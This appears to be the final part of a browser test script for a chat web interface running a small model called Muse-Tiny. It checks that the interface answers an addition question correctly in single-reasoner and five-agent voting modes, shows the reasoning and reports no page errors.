    const page = await browser.newPage({ viewport: { width: 1400, height: 1000 } });
    const consoleErrors = [];
    page.on('pageerror', (e) => consoleErrors.push(String(e)));
    await page.goto(srv.url + '/');
    await page.waitForFunction(() => /muse-tiny/i.test(document.querySelector('#model-name').textContent), null, { timeout: 20000 });
    check('Muse-Tiny: the page names the model', true);

    const ask = async (mode, agents, temperature) => {
      await page.click(`button[data-mode="${mode}"]`);
      if (mode === 'contemplating') await page.fill('#agents', String(agents));
      await page.fill('#temperature', String(temperature));
      await page.fill('#prompt', 'What is 487 + 356?');
      const before = await page.$$eval('.msg.assistant', (a) => a.length);
      await page.click('#send');
      await page.waitForFunction((n) => {
        const all = document.querySelectorAll('.msg.assistant');
        return all.length === n + 1 && all[n].querySelector('.stats').textContent.length > 0;
      }, before, { timeout: 120000 });
      return page.$eval('.msg.assistant:last-child', (m) => ({
        answer: m.querySelector('.final').textContent,
        reasoning: m.querySelector('details.reasoning .text') ? m.querySelector('details.reasoning .text').textContent : '',
        verdict: m.querySelector('.verdict') ? m.querySelector('.verdict').textContent : '',
        solvers: [...m.querySelectorAll('.agent-col[data-kind="solver"] .stream')].map((c) => c.textContent),
        error: m.querySelector('.error') ? m.querySelector('.error').textContent : '',
      }));
    };
    const thinking = await ask('thinking', 1, 0);
    check('Muse-Tiny thinking: answers 843', /\b843\b/.test(thinking.answer) && !thinking.error, thinking);
    check('Muse-Tiny thinking: the reasoning works column by column', /487 \+ 356: 7 \+ 6 \+ 0 = 13, carry 1/.test(thinking.reasoning), thinking.reasoning);
    const contemplating = await ask('contemplating', 5, 0.7);
    check('Muse-Tiny contemplating: answers 843', /\b843\b/.test(contemplating.answer) && !contemplating.error, contemplating);
    check('Muse-Tiny contemplating: five agents reasoned', contemplating.solvers.length === 5 && contemplating.solvers.every((t) => t.length > 0), contemplating.solvers);
    check('Muse-Tiny contemplating: the agents voted', /Vote/.test(contemplating.verdict), contemplating.verdict);
    check('Muse-Tiny: no page errors', consoleErrors.length === 0, consoleErrors);
  });
}

// MUSE_WEB_TESTS=polish,tiny runs only those parts (while working on one).
const parts = { main, polish, keyed, tiny };
const only = (process.env.MUSE_WEB_TESTS || 'main,polish,keyed,tiny').split(',');
only.reduce((p, name) => p.then(() => { if (!parts[name]) throw new Error(`no part '${name}' (main, polish, keyed, tiny)`); return parts[name](); }), Promise.resolve()).then(() => process.exit(summary()), (e) => { console.log('FAIL exception: ' + (e.stack || e)); summary(); process.exit(1); });
